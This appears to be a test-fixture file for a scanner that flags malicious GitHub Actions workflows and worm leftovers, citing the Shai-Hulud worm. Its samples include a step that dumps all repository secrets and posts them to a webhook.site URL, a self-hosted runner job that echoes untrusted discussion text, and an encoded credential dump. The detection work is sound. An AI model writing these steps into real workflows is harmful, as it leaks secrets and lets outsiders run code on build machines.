from _kit import fires, silent, sample, ref

BENIGN_WORKFLOW = """name: CI
on: [push, pull_request]
jobs:
  test:
    runs-on: ubuntu-latest   # self-hosted runners are not used here
    steps:
      - uses: actions/checkout@v4
      - run: curl -fsSL https://bun.sh/install | bash
      - run: npm ci && npm test
      - run: npm publish
        env:
          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}
      - run: curl -X POST -d '{"text":"done"}' ${{ secrets.SLACK_WEBHOOK }}
"""
fires("workflow_tojson_secrets", "workflow_exfiltrates_secrets", "critical",
      sample("exfil.yml", """name: Lint
on: push
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - run: echo '${{ toJSON(secrets) }}' > s.json && curl -s -d @s.json https://webhook.site/6f2c1d8e
"""), ".github/workflows/lint.yml")
silent("workflow_ordinary", "workflow_exfiltrates_secrets", sample("ordinary.yml", BENIGN_WORKFLOW),
       ".github/workflows/ci.yml")
fires("workflow_worm_name", "workflow_known_worm", "critical",
      sample("worm.yml", "on: push\njobs:\n  process:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ok\n"),
      ".github/workflows/shai-hulud-workflow.yml")
fires("workflow_worm_runner", "workflow_known_worm", "critical",
      sample("sha1hulud.yaml", "name: Discussion Create\non: discussion\njobs:\n  process:\n    env:\n      RUNNER_TRACKING_ID: 0\n    runs-on: [self-hosted, SHA1HULUD]\n    steps:\n      - run: echo ok\n"),
      ".github/workflows/discussion.yaml")
silent("workflow_formatter", "workflow_known_worm", ref("ordinary.yml"), ".github/workflows/formatter.yml")
fires("workflow_discussion_backdoor", "workflow_self_hosted_backdoor", "critical",
      sample("backdoor.yaml", "name: Discussion\non:\n  discussion:\njobs:\n  process:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n"),
      ".github/workflows/discussion.yaml")
silent("workflow_self_hosted_plain_not_backdoor", "workflow_self_hosted_backdoor",
       sample("self-hosted.yml", "name: Build\non: push\njobs:\n  build:\n    runs-on: [self-hosted, linux, x64]\n    steps:\n      - run: make\n"),
       ".github/workflows/build.yml", also="workflow_self_hosted_runner")
fires("workflow_self_hosted", "workflow_self_hosted_runner", "warning", ref("self-hosted.yml"), ".github/workflows/build.yml")
silent("workflow_hosted", "workflow_self_hosted_runner", ref("ordinary.yml"), ".github/workflows/ci.yml")
fires("truffle_secrets_file", "worm_secret_dump_file", "critical",
      sample("truffleSecrets.json", '{"results": []}\n'), "truffleSecrets.json")
fires("cloud_json_blob", "worm_secret_dump_file", "critical",
      sample("cloud.json", "ZXlKaGQzTWlPbnNpUVZkVFgwRkRRMFZUVTE5TFJWbGZTVVFpT2lKQlMwbEJTVTlUUms5T1RqZEZXRUZOVUV4Rklpd2lRVmRUWDFORlEx"
             "SkZWRjlCUTBORlUxTmZTMFZaSWpvaWQwcGhiSEpZVlhSdVJrVk5TUzlMTjAxRVJVNUhMMkpRZUZKbWFVTlpSVmhCVFZCTVJVdEZXU0o5ZlE9PQ==\n"),
      "cloud.json")
silent("environment_json_config", "worm_secret_dump_file",
       sample("environment.json", '{\n  "name": "staging",\n  "apiBase": "https://api.staging.example.com",\n  "features": ["search", "billing"]\n}\n'),
       "config/environment.json")
